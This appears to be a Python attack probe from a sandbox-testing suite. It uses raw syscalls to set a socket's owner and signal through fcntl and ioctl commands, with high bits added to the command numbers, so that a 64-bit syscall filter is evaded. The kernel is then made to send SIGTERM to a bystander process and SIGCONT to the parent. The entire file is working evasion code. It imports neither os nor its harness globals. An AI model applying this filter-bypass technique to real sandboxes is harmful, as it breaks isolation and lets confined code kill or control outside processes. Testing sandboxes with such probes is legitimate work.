"""Have the kernel send the signal: a file tells its owner of input, whoever the owner is."""

import ctypes
import fcntl
import signal
import socket
import time

CLASS = "signalling"
GAINS = ("hold",)

F_SETOWN, F_SETSIG, F_SETOWN_EX, FIOSETOWN, FIOASYNC = 8, 10, 15, 0x8901, 0x5452


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    numbers = {"x86_64": (72, 16), "aarch64": (25, 29)}[os.uname().machine]
    for pid, what in ((KNOWN["bystander"], signal.SIGTERM), (os.getppid(), signal.SIGCONT)):
        tell(libc, numbers, pid, int(what))


def tell(libc, numbers, pid, what):
    # A filter that compares 64 bits sees other commands than the kernel, which takes 32 of them.
    for high in (0, 1 << 32, 0xFFFFFFFF << 32):
        here, there = socket.socketpair()
        name = ctypes.c_int(pid)
        for number, command, argument in (
            (numbers[0], F_SETOWN, ctypes.c_ulong(pid)),
            (numbers[0], F_SETOWN_EX, (ctypes.c_int * 2)(1, pid)),
            (numbers[1], FIOSETOWN, ctypes.byref(name)),
            (numbers[0], F_SETSIG, ctypes.c_ulong(what)),
        ):
            libc.syscall(number, here.fileno(), ctypes.c_ulong(command | high), argument)
        if fcntl.fcntl(here, fcntl.F_GETOWN) == pid:
            loot.append("gained hold: the kernel was told to signal another process")
        fcntl.fcntl(here, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        there.send(b"x")
        time.sleep(0.02)
